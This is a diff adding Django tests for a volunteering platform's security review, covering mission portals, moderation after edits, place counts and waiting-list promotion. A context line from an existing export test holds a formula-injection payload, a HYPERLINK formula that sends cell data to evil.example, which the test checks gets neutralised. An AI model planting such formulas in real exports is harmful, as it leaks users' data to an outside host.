@@ -1,12 +1,14 @@
 """Security review (issue 12): moderation scope, mission portals and edits, exports, team."""
 
 import pytest
+from django.core.exceptions import ValidationError
 from django.test import Client
 from django.utils import timezone
 
 from accounts.models import User
+from emails.models import OutboundEmail
 from missions import services
-from missions.models import Mission
+from missions.models import Application, Mission
 from organisations.models import Membership, Organisation
 from organisations.services import ensure_moderators_group
 
@@ -110,3 +112,122 @@ def test_exports_neutralise_formulas(demo):
     values = {cell.value for cell in cells}
     assert '\'=HYPERLINK("http://evil.example/?x="&C2,"Voir")' in values
     assert not any(isinstance(v, str) and v.startswith(("=", "+", "@", "-")) for v in values)
+
+
+# --- 4. A mission is shown only on its organisation's portal ----------------------------------
+
+
+def mission_data(mission=None, **changes):
+    data = {"title": "Maraude", "description": "<p>Aller vers</p>", "audience": "all",
+            "places": 3, "postal_code": "75011", "city": "Paris", "minimum_age": 18,
+            "waiting_list": "on"}  # fmt: skip
+    if mission is not None:
+        data.update(title=mission.title, description=mission.description, places=mission.places,
+                    minimum_age=mission.minimum_age, postal_code=mission.postal_code,
+                    city=mission.city, sites=[s.pk for s in mission.sites.all()])  # fmt: skip
+        if not mission.waiting_list:
+            del data["waiting_list"]
+    data.update(changes)
+    return data
+
+
+@pytest.fixture
+def team(demo):
+    organisation = organisation_on(demo["localhost"], "asso-equipe")
+    manager = confirmed("manager-equipe@example.com")
+    Membership.objects.create(organisation=organisation, user=manager)
+    return organisation, manager
+
+
+def test_a_mission_cannot_go_to_a_portal_whose_moderators_never_see_it(team, demo):
+    organisation, manager = team
+    other = demo["covid19.localhost"]
+    client = client_for(manager)
+    url = f"/fr/espace-association/{organisation.pk}/missions/nouvelle/"
+    refused = client.post(url, mission_data(sites=[other.pk], submit="1"), **H)
+    assert refused.status_code == 400
+    assert not Mission.objects.filter(organisation=organisation).exists()
+    # The domain function says the same to any other caller.
+    with pytest.raises(ValidationError) as error:
+        services.save_mission(Mission(title="X", description="x", city="Paris",
+                                      postal_code="75011"), organisation, manager,
+                              sites=[organisation.site, other])  # fmt: skip
+    assert "sites" in error.value.message_dict
+    # Nothing chosen, or the dashboard opened on another portal's host: the organisation's own.
+    made = client.post(url, mission_data(submit="1"), HTTP_HOST="covid19.localhost")
+    assert made.status_code == 302
+    mission = Mission.objects.get(organisation=organisation)
+    assert list(mission.sites.all()) == [organisation.site]
+    # The moderators who see it in their queue are the ones of the portals that show it.
+    moderator = User.objects.create_user("mod-equipe@example.com")
+    moderator.groups.add(ensure_moderators_group(demo["localhost"]))
+    assert services.mission_role(moderator, mission) == "moderator"
+    # An edit cannot add the other portal either.
+    edit = f"/fr/espace-association/{organisation.pk}/missions/{mission.pk}/"
+    assert client.post(edit, mission_data(mission, sites=[other.pk]), **H).status_code == 400
+    assert list(mission.sites.all()) == [organisation.site]
+
+
+# --- 5. Editing a validated mission --------------------------------------------------------
+
+
+def test_a_content_edit_of_a_validated_mission_goes_back_to_moderation(team, demo):
+    organisation, manager = team
+    mission = mission_of(organisation, "mission-validee")
+    assert Mission.objects.public(demo["localhost"]).filter(pk=mission.pk).exists()
+    client = client_for(manager)
+    edit = f"/fr/espace-association/{organisation.pk}/missions/{mission.pk}/"
+    # Capacity is not content: more places apply at once, the mission stays public.
+    assert client.post(edit, mission_data(mission, places=5), **H).status_code == 302
+    mission.refresh_from_db()
+    assert mission.places == 5 and mission.status == "validated"
+    changed = mission_data(mission, title="Venez au casino", description="<a href='x'>gagnez</a>")
+    assert client.post(edit, changed, **H).status_code == 302
+    mission.refresh_from_db()
+    assert mission.status == "submitted" and mission.title == "Venez au casino"
+    assert not Mission.objects.public(demo["localhost"]).filter(pk=mission.pk).exists()
+
+
+def test_an_edit_never_overwrites_the_active_count(team):
+    organisation, manager = team
+    mission = mission_of(organisation, "mission-comptee", places=3)
+    services.apply(mission.pk, confirmed("first@example.com"))
+    stale = Mission.objects.get(pk=mission.pk)  # what the edit form read: one active
+    services.apply(mission.pk, confirmed("second@example.com"))  # counted meanwhile
+    stale.places = 4
+    services.save_mission(stale, organisation, manager, changed=["places"])
+    mission.refresh_from_db()
+    assert mission.places == 4 and mission.active_count == 2
+
+
+def test_places_cannot_drop_below_the_active_applications(team):
+    organisation, manager = team
+    mission = mission_of(organisation, "mission-pleine", places=3)
+    for n in range(2):
+        services.apply(mission.pk, confirmed(f"active{n}@example.com"))
+    client = client_for(manager)
+    edit = f"/fr/espace-association/{organisation.pk}/missions/{mission.pk}/"
+    response = client.post(edit, mission_data(mission, places=1), **H)
+    assert response.status_code == 400
+    assert "2 applications are active" in response.text or "2 candidatures" in response.text
+    mission.refresh_from_db()
+    assert mission.places == 3 and mission.active_count == 2
+    assert client.post(edit, mission_data(mission, places=2), **H).status_code == 302
+
+
+def test_more_places_promote_from_the_waiting_list(team):
+    organisation, manager = team
+    mission = mission_of(organisation, "mission-liste", places=1)
+    applications = [services.apply(mission.pk, confirmed(f"wait{n}@example.com"))
+                    for n in range(4)]  # fmt: skip
+    assert [a.status for a in applications] == ["pending"] + ["waitlisted"] * 3
+    client = client_for(manager)
+    edit = f"/fr/espace-association/{organisation.pk}/missions/{mission.pk}/"
+    assert client.post(edit, mission_data(mission, places=3), **H).status_code == 302
+    statuses = [Application.objects.get(pk=a.pk).status for a in applications]
+    assert statuses == ["pending", "pending", "pending", "waitlisted"]
+    mission.refresh_from_db()
+    assert mission.active_count == 3
+    promoted = applications[1]
+    key = f"application-promoted:{promoted.pk}"
+    assert OutboundEmail.objects.filter(idempotency_key=key).exists()
